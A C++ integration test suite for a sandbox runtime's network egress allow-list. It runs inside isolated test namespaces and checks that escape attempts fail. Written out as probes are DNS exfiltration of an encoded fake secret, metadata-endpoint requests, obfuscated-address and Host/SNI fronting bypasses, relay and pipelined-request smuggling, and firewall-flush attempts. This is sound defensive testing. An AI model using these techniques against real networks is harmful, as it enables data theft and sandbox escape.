// `--network egress` against a world of the test's own: two network
// namespaces made by world.sh (a "host" one the supervisor runs in, and a
// "world" one with an authoritative name server that logs every query, a
// second resolver with DNS over TLS, and HTTP/HTTPS servers with several
// names on one address), never the machine's own network. Each sandbox
// runs curl, openssl or probes.py (a few Python socket probes) inside.
//
// The matrix: allowed names work over IPv4 and IPv6, http and https; DNS
// exfiltration gets NXDOMAIN fast with zero queries at the world's name
// servers, over UDP and TCP; other resolvers, literal, mapped and decimal
// addresses, metadata, DoT and DoH to an address: blocked; fronting by
// Host or SNI, and TLS without SNI: reset; a relay inside the sandbox
// reaches nothing denied; the workload cannot change the rules; the world
// sees no packet it should not; an unprivileged caller gets the same; and
// nothing outlives a sandbox whose supervisor is SIGKILLed.
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch_test_macros.hpp>

#include <algorithm>
#include <fstream>
#include <sstream>
#include <thread>

#include "../harness.hpp"

using namespace nit;

namespace {

const std::string kScripts = NUCLEUS_EGRESS_SCRIPTS;

// The namespaces, servers and test CA, made once for the whole run and
// removed at exit.
class World {
public:
    static World& get() {
        static World world;
        return world;
    }
    World(const World&) = delete;
    ~World() {
        if (up_) run({kScripts + "/world.sh", "down", dir_.str(), tag_});
    }

    bool up() const { return up_; }
    const std::string& why_not() const { return why_not_; }
    const TempDir& dir() const { return dir_; }

    // argv run in the host namespace, with its resolv.conf pointing at the world.
    std::vector<std::string> in_host(const std::vector<std::string>& argv) const {
        std::vector<std::string> out = {"unshare",
                                        "-m",
                                        "--propagation",
                                        "private",
                                        "sh",
                                        "-c",
                                        "d=$0 t=$1; shift; mount --bind \"$d/host-resolv.conf\" /etc/resolv.conf && "
                                        "exec nsenter --net=/run/netns/nuc-h-$t -- \"$@\"",
                                        dir_.str(),
                                        tag_};
        out.insert(out.end(), argv.begin(), argv.end());
        return out;
    }

    // nucleus run in the host namespace; the world's files at /world, probes at /probes.
    Result sandbox(std::vector<std::string> flags, const std::vector<std::string>& command,
                   const std::vector<std::string>& prefix = {}) const {
        std::vector<std::string> base = {"-v", dir_.str() + ":/world:ro", "-v", kScripts + ":/probes:ro"};
        base.insert(base.end(), flags.begin(), flags.end());
        auto argv = prefix;
        auto n = nucleus_argv(base, command);
        argv.insert(argv.end(), n.begin(), n.end());
        return run(in_host(argv), with_deadline(60s));
    }

    std::string queries(const char* log = "queries.log") const {
        std::ifstream f(dir_ / log);
        std::stringstream s;
        s << f.rdbuf();
        return s.str();
    }

    std::map<std::string, long> counters() const {
        auto r = run({kScripts + "/world.sh", "counters", dir_.str(), tag_});
        std::map<std::string, long> out;
        std::istringstream lines(r.out);
        std::string name;
        long value;
        while (lines >> name >> value) out[name] = value;
        return out;
    }

private:
    World() {
        if (::geteuid() != 0) {
            why_not_ = "needs root (network namespaces and veths)";
            return;
        }
        for (const char* tool : {"/usr/bin/curl", "/usr/bin/openssl", "/usr/bin/python3", "/usr/sbin/nft"}) {
            if (::access(tool, X_OK) != 0) {
                why_not_ = std::string("needs ") + tool + " (scripts/install-deps.sh)";
                return;
            }
        }
        auto r = run({kScripts + "/world.sh", "up", dir_.str(), tag_}, with_deadline(60s));
        if (r.exit_code != 0) {
            run({kScripts + "/world.sh", "down", dir_.str(), tag_});
            why_not_ = "world.sh up failed: " + r.describe();
            return;
        }
        up_ = true;
    }

    TempDir dir_{"egress-world", 0755};
    std::string tag_ = std::to_string(::getpid() % 100000);
    bool up_ = false;
    std::string why_not_;
};

World& world() {
    auto& w = World::get();
    if (!w.up()) SKIP(w.why_not());
    return w;
}

const std::vector<std::string> kAllowed = {"--allow-domain", "allowed.test", "--allow-domain", "*.allowed.test:443"};

long count_lines_with(const std::string& text, const std::string& needle) {
    long n = 0;
    for (const auto& line : split_lines(text))
        if (contains(line, needle)) ++n;
    return n;
}

}  // namespace

TEST_CASE("egress: allowed names work over http and https, IPv4 and IPv6", "[egress]") {
    auto& w = world();
    auto r = w.sandbox(kAllowed, {"sh", "-c",
                                  "curl -4 -sS -m 10 http://allowed.test/a; "
                                  "curl -6 -sS -m 10 http://allowed.test/b; "
                                  "curl -4 -sS -m 10 --cacert /world/ca.crt https://allowed.test/c; "
                                  "curl -6 -sS -m 10 --cacert /world/ca.crt https://www.allowed.test/d"});
    INFO(r.describe());
    CHECK(r.exit_code == 0);
    CHECK(contains(r.out, "vhost=allowed.test tls=- path=/a"));
    CHECK(contains(r.out, "vhost=allowed.test tls=- path=/b"));
    CHECK(contains(r.out, "vhost=allowed.test tls=allowed.test path=/c"));
    CHECK(contains(r.out, "vhost=www.allowed.test tls=www.allowed.test path=/d"));
    // The runtime asked the world's server for the names it dialled.
    CHECK(contains(w.queries(), "allowed.test"));
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: DNS exfiltration gets NXDOMAIN at once and no query reaches a name server", "[egress]") {
    auto& w = world();
    std::string secret = "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3";  // 72 bytes
    std::string script;
    int probes = 0;
    for (const char* server : {"127.0.0.1", "203.0.113.53", "203.0.113.54", "2001:db8:2::53", "198.51.100.2"}) {
        for (const char* proto : {"udp", "tcp"}) {
            for (const char* type : {"1", "16", "10", "65", "28"}) {
                std::string name =
                    secret.substr(0, 60) + "." + secret.substr(10, 50) + ".x" + std::to_string(probes) + ".exfil.test";
                script += std::string("python3 /probes/probes.py dns ") + server + " " + proto + " " + name + " " +
                          type + "; ";
                ++probes;
            }
        }
    }
    auto r = w.sandbox(kAllowed, {"sh", "-c", script});
    INFO(r.describe());
    REQUIRE(r.exit_code == 0);
    auto lines = split_lines(r.out);
    REQUIRE(static_cast<int>(lines.size()) == probes);
    std::vector<double> ms;
    for (const auto& line : lines) {
        INFO(line);
        CHECK(line.starts_with("rcode=3 answers=0 "));
        ms.push_back(std::stod(line.substr(line.find("ms=") + 3)));
    }
    // Answered at once by the stub, never forwarded: no answer waits for a
    // timeout or retry (a resolver's is at least a second). The bound is
    // loose on purpose, tests assert no timings; the measured values (well
    // under 50 ms on an idle machine) are reported here.
    std::sort(ms.begin(), ms.end());
    WARN("stub NXDOMAIN round trips, Python client included: median " << ms[ms.size() / 2] << " ms, max " << ms.back()
                                                                      << " ms");
    CHECK(ms.back() < 1000.0);
    CHECK(count_lines_with(w.queries(), "exfil") == 0);
    CHECK(w.queries("queries-second.log").empty());
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: other resolvers, raw, mapped and decimal addresses, metadata and UDP are blocked", "[egress]") {
    auto& w = world();
    auto r = w.sandbox(kAllowed, {"sh", "-c",
                                  "for u in http://203.0.113.10/ 'http://[::ffff:203.0.113.10]/' http://3405803786/ "
                                  "http://0xcb.0.113.10/ 'http://[2001:db8:2::10]/' http://169.254.169.254/latest/ "
                                  "'http://[fd00:ec2::254]/' https://203.0.113.10/dns-query telnet://203.0.113.54:853 "
                                  "telnet://203.0.113.53:53; do curl -sS -m 5 \"$u\" </dev/null >/dev/null 2>&1; "
                                  "echo \"$u rc=$?\"; done; "
                                  "python3 /probes/probes.py udp 203.0.113.10 443; "
                                  "python3 /probes/probes.py udp 2001:db8:2::10 443; "
                                  "python3 /probes/probes.py udp 203.0.113.54 853"});
    INFO(r.describe());
    auto lines = split_lines(r.out);
    REQUIRE(lines.size() == 13);
    for (size_t i = 0; i < 10; ++i) {
        INFO(lines[i]);
        // Connection refused or reset, or (port 53 over TCP, served by the stub) no HTTP answer.
        CHECK_FALSE(contains(lines[i], "rc=0"));
    }
    for (size_t i = 10; i < 13; ++i) CHECK(lines[i] == "errno=EPERM");
    CHECK(w.queries("queries-second.log").empty());
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: fronting onto an allowed name's address is reset", "[egress]") {
    auto& w = world();
    auto r = w.sandbox(kAllowed,
                       {"sh", "-c",
                        "curl -sS -m 5 -H 'Host: denied.test' http://allowed.test/ >/dev/null 2>&1; echo host rc=$?; "
                        "curl -sS -m 5 --cacert /world/ca.crt --connect-to denied.test:443:allowed.test:443 "
                        "https://denied.test/ >/dev/null 2>&1; echo sni rc=$?; "
                        "echo | openssl s_client -connect allowed.test:443 -noservername >/dev/null 2>&1; "
                        "echo nosni rc=$?; "
                        "curl -sS -m 5 --cacert /world/ca.crt https://allowed.test/ok"});
    INFO(r.describe());
    CHECK(contains(r.out, "host rc=56"));  // CURLE_RECV_ERROR: reset
    CHECK(contains(r.out, "sni rc=35"));  // CURLE_SSL_CONNECT_ERROR: reset during the handshake
    CHECK_FALSE(contains(r.out, "nosni rc=0"));
    CHECK(contains(r.out, "vhost=allowed.test tls=allowed.test path=/ok"));
    auto http = w.queries("http.log");
    CHECK_FALSE(contains(http, "denied"));
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: a relay inside the sandbox reaches nothing the policy denies", "[egress]") {
    auto& w = world();
    auto r = w.sandbox(
        kAllowed,
        {"sh", "-c",
         "python3 /probes/probes.py relay 3128 & sleep 0.5; "
         "curl -sS -m 5 -x http://127.0.0.1:3128 --cacert /world/ca.crt https://allowed.test/relayed; "
         "curl -fsS -m 5 -x http://127.0.0.1:3128 --cacert /world/ca.crt https://denied.test/ "
         ">/dev/null 2>&1; echo denied rc=$?; "
         "curl -fsS -m 5 -x http://127.0.0.1:3128 http://203.0.113.10/raw -H 'Host: allowed.test' "
         ">/dev/null 2>&1; echo raw rc=$?; "
         "printf 'GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' > /tmp/p; "
         "printf 'GET /second HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n' >> /tmp/p; "
         "curl -sS -m 5 telnet://allowed.test:80 < /tmp/p; echo; echo pipelined rc=$?; kill %1 2>/dev/null; true"});
    INFO(r.describe());
    CHECK(contains(r.out, "vhost=allowed.test tls=allowed.test path=/relayed"));
    CHECK(contains(r.out, "denied rc="));
    CHECK_FALSE(contains(r.out, "denied rc=0"));
    CHECK_FALSE(contains(r.out, "raw rc=0"));
    CHECK_FALSE(contains(r.out, "path=/second"));
    CHECK_FALSE(contains(w.queries("http.log"), "/second"));
    CHECK_FALSE(contains(w.queries("http.log"), "/raw"));
    CHECK(count_lines_with(w.queries(), "denied.test") == 0);
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: the workload cannot change, leave or take over the rules", "[egress]") {
    auto& w = world();
    auto r = w.sandbox(kAllowed, {"sh", "-c",
                                  "nft flush ruleset >/dev/null 2>&1; echo nft rc=$?; "
                                  "unshare -rn true >/dev/null 2>&1; echo unshare rc=$?; "
                                  "python3 /probes/probes.py bind 0.0.0.0 53 udp; "
                                  "python3 /probes/probes.py bind 127.0.0.1 53 udp; "
                                  "python3 /probes/probes.py bind 127.0.0.1 1 tcp; "
                                  "curl -sS -m 5 http://allowed.test/after"});
    INFO(r.describe());
    CHECK(contains(r.out, "nft rc=1"));
    CHECK_FALSE(contains(r.out, "unshare rc=0"));
    auto lines = split_lines(r.out);
    REQUIRE(lines.size() == 6);
    CHECK(lines[2] == "errno=EACCES");
    CHECK(lines[3] == "errno=EACCES");
    CHECK(lines[4] == "errno=EACCES");
    CHECK(contains(r.out, "path=/after"));
}

TEST_CASE("egress: NET_ADMIN and NET_RAW are refused with allow rules", "[egress]") {
    for (const char* cap : {"NET_ADMIN", "NET_RAW"}) {
        auto r = run_nucleus({"--allow-domain", "allowed.test", "--cap-add", cap}, {"true"});
        INFO(r.describe());
        CHECK(r.exit_code == 125);
        CHECK(contains(r.err, "[rule egress-no-net-caps]"));
    }
    auto none = run_nucleus({"--network", "none", "--allow-domain", "allowed.test"}, {"true"});
    CHECK(none.exit_code == 125);
    CHECK(contains(none.err, "takes no allow rules"));
    auto bad = run_nucleus({"--allow-domain", "not a name"}, {"true"});
    CHECK(bad.exit_code == 125);
    CHECK(contains(bad.err, "allow_domain (--allow-domain)"));
}

TEST_CASE("egress: decisions are events, and the exit event counts them", "[egress]") {
    auto& w = world();
    auto r = w.sandbox({"--allow-domain", "allowed.test", "--events-fd", "1"},
                       {"sh", "-c",
                        "curl -sS -m 5 http://allowed.test/ >/dev/null; curl -sS -m 5 http://denied.test/ "
                        ">/dev/null 2>&1; curl -sS -m 5 http://203.0.113.10/ >/dev/null 2>&1; true"});
    INFO(r.describe());
    std::vector<nlohmann::json> events;
    for (const auto& line : split_lines(r.out))
        if (line.starts_with("{")) events.push_back(nlohmann::json::parse(line));
    int allows = 0, denies = 0;
    for (const auto& e : events) {
        if (e.value("event", "") != "egress") continue;
        if (e["action"] == "allow") ++allows;
        if (e["action"] == "deny") ++denies;
    }
    CHECK(allows == 1);
    CHECK(denies >= 2);  // the denied name's A/AAAA queries, and the raw address
    auto exit = find_event(events, "exit");
    REQUIRE(exit.is_object());
    CHECK(exit["egress"]["connections_allowed"] == 1);
    CHECK(exit["egress"]["connections_denied"] == 1);
    CHECK(exit["egress"]["dns_refused"].get<int>() >= 1);
}

TEST_CASE("egress: works for an unprivileged caller", "[egress][nonroot]") {
    auto& w = world();
    if (::access("/usr/bin/setpriv", X_OK) != 0) SKIP("needs setpriv(1)");
    TempDir state_parent{"egress-nonroot", 0777};
    std::string state = (state_parent / "state").string();
    auto r = w.sandbox(kAllowed,
                       {"sh", "-c",
                        "id -u; curl -sS -m 10 --cacert /world/ca.crt https://allowed.test/nonroot; "
                        "curl -sS -m 5 http://denied.test/ 2>&1 | head -1"},
                       {"setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "env", "-u",
                        "XDG_RUNTIME_DIR", "NUCLEUS_STATE_DIR=" + state});
    INFO(r.describe());
    if (contains(r.err, "unprivileged user namespaces")) SKIP("the kernel refuses unprivileged user namespaces");
    CHECK(r.exit_code == 0);
    CHECK(contains(r.out, "vhost=allowed.test tls=allowed.test path=/nonroot"));
    CHECK(contains(r.out, "Could not resolve host: denied.test"));
    CHECK(w.counters()["other"] == 0);
}

TEST_CASE("egress: nothing outlives a sandbox whose supervisor is SIGKILLed", "[egress][host-state]") {
    auto& w = world();
    auto baseline = settled_leftovers();
    TempDir events{"egress-events"};
    auto argv = w.in_host(nucleus_argv(
        {"--allow-domain", "allowed.test", "--events-jsonl", (events / "e.jsonl").string()}, {"sleep", "60"}));
    auto p = Process::start(argv, with_deadline(60s));
    auto start = wait_for_start_event(events / "e.jsonl", p);
    REQUIRE(start.is_object());
    pid_t sandbox = start["pid"].get<pid_t>();
    struct stat netns {};
    REQUIRE(::stat(("/proc/" + std::to_string(sandbox) + "/ns/net").c_str(), &netns) == 0);
    // unshare and sh exec nsenter, which execs nucleus: the process we
    // started is the supervisor.
    p.signal(SIGKILL);
    (void)p.wait();
    CHECK(wait_until_range_empty(*map_base(start["user"]["uid_map"].get<std::string>()), kLeaseSize));
    // Nothing holds the sandbox's network namespace: its nftables table,
    // routes and the listening sockets went with it.
    bool held = false;
    for (const auto& entry : fs::directory_iterator("/proc")) {
        struct stat st {};
        if (::stat((entry.path() / "ns/net").c_str(), &st) == 0 && st.st_ino == netns.st_ino &&
            st.st_dev == netns.st_dev)
            held = true;
    }
    CHECK_FALSE(held);
    // The next run collects the record and cgroup the killed supervisor left.
    auto again = w.sandbox({"--allow-domain", "allowed.test"}, {"true"});
    CHECK(again.exit_code == 0);
    auto after = wait_for_leftovers(baseline);
    CHECK(after == baseline);
}

TEST_CASE("egress: a daemon restarted after SIGKILL serves its re-adopted sandboxes' egress again",
          "[egress][daemon]") {
    auto& w = world();
    TempDir d{"egress-daemon", 0755};
    TempDir ws{"egress-ws", 0777};
    std::string sock = (d / "nucleus.sock").string(), state = (d / "state").string();
    auto start_daemon = [&] {
        return Process::start(w.in_host({kNucleus, "daemon", "--socket", sock, "--state-dir", state}),
                              with_deadline(120s));
    };
    auto wait_for = [](auto predicate, std::chrono::milliseconds timeout) {
        auto until = std::chrono::steady_clock::now() + timeout;
        while (std::chrono::steady_clock::now() < until) {
            if (predicate()) return true;
            std::this_thread::sleep_for(100ms);
        }
        return predicate();
    };
    auto served = [&] { return count_lines_with(read_file(ws / "log"), "path=/loop"); };
    SpawnOptions client;
    client.env = {"NUCLEUS_SOCKET=" + sock};
    auto daemon = start_daemon();
    REQUIRE(wait_for([&] { return fs::exists(sock); }, 10s));
    auto created = run({kNucleus, "create", "-d", "--name", "egress-readopt", "--workspace", ws.str(), "--allow-domain",
                        "allowed.test", "--", "sh", "-c",
                        "while :; do curl -sS -m 2 http://allowed.test/loop >> /workspace/log 2>&1 || echo FAIL >> "
                        "/workspace/log; sleep 0.2; done"},
                       client);
    INFO(created.describe());
    REQUIRE(created.exit_code == 0);
    REQUIRE(wait_for([&] { return served() > 0; }, 20s));
    daemon.signal(SIGKILL);
    (void)daemon.wait();
    long before = served();
    auto restarted = start_daemon();
    bool adopted = wait_for(
        [&] {
            restarted.pump(100ms);
            return contains(restarted.err(), "re-adopted 1 running sandbox");
        },
        15s);
    INFO(restarted.err());
    REQUIRE(adopted);
    CHECK(wait_for([&] { return served() >= before + 3; }, 20s));
    auto removed = run({kNucleus, "rm", "--force", "egress-readopt"}, client);
    CHECK(removed.exit_code == 0);
    restarted.signal(SIGTERM);
    (void)restarted.wait();
}
